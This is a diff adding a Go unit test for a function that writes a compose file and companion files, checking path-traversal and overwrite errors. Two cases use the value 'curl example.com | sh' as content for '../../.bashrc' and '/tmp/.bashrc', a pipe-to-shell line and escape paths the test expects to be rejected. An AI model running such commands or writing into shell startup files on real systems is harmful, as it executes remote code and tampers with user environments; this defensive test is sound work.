@@ -0,0 +1,96 @@
+/*
+Copyright 2017 The Kubernetes Authors All rights reserved.
+
+Licensed under the Apache License, Version 2.0 (the "License");
+you may not use this file except in compliance with the License.
+You may obtain a copy of the License at
+
+    http://www.apache.org/licenses/LICENSE-2.0
+
+Unless required by applicable law or agreed to in writing, software
+distributed under the License is distributed on an "AS IS" BASIS,
+WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+See the License for the specific language governing permissions and
+limitations under the License.
+*/
+
+package reverse
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/compose-spec/compose-go/v2/types"
+)
+
+func TestWrite(t *testing.T) {
+	testCases := map[string]struct {
+		files     map[string][]byte
+		existing  string
+		overwrite bool
+		wantErr   bool
+	}{
+		"files next to the compose file": {
+			files: map[string][]byte{"web.env": []byte("MODE=production\n"), "secrets/token": []byte("s3cret")},
+		},
+		"error when a file escapes the directory": {
+			files:   map[string][]byte{"../../.bashrc": []byte("curl example.com | sh")},
+			wantErr: true,
+		},
+		"error when a file is absolute": {
+			files:   map[string][]byte{"/tmp/.bashrc": []byte("curl example.com | sh")},
+			wantErr: true,
+		},
+		"error when the compose file exists": {
+			existing: "compose.yaml",
+			wantErr:  true,
+		},
+		"error when a file exists": {
+			files:    map[string][]byte{"web.env": []byte("MODE=production\n")},
+			existing: "web.env",
+			wantErr:  true,
+		},
+		"overwrite the existing files": {
+			files:     map[string][]byte{"web.env": []byte("MODE=production\n")},
+			existing:  "web.env",
+			overwrite: true,
+		},
+	}
+
+	for name, test := range testCases {
+		t.Run(name, func(t *testing.T) {
+			dir := filepath.Join(t.TempDir(), "out")
+			if err := os.Mkdir(dir, 0755); err != nil {
+				t.Fatal(err)
+			}
+			if test.existing != "" {
+				if err := os.WriteFile(filepath.Join(dir, test.existing), []byte("existing"), 0644); err != nil {
+					t.Fatal(err)
+				}
+			}
+			err := Write(filepath.Join(dir, "compose.yaml"), &types.Project{}, test.files, test.overwrite)
+			if test.wantErr {
+				if err == nil {
+					t.Fatal("Expected an error, got nil")
+				}
+				if content, _ := os.ReadFile(filepath.Join(dir, "compose.yaml")); test.existing != "compose.yaml" && content != nil {
+					t.Errorf("Expected no file written on error, got the compose file")
+				}
+				if entries, _ := os.ReadDir(filepath.Dir(dir)); len(entries) != 1 {
+					t.Errorf("Expected no file written outside of the directory, got %d entries", len(entries))
+				}
+				return
+			}
+			if err != nil {
+				t.Fatalf("Write() error = %v", err)
+			}
+			for file, content := range test.files {
+				written, err := os.ReadFile(filepath.Join(dir, filepath.FromSlash(file)))
+				if err != nil || string(written) != string(content) {
+					t.Errorf("Expected %s to contain %q, got %q (%v)", file, content, written, err)
+				}
+			}
+		})
+	}
+}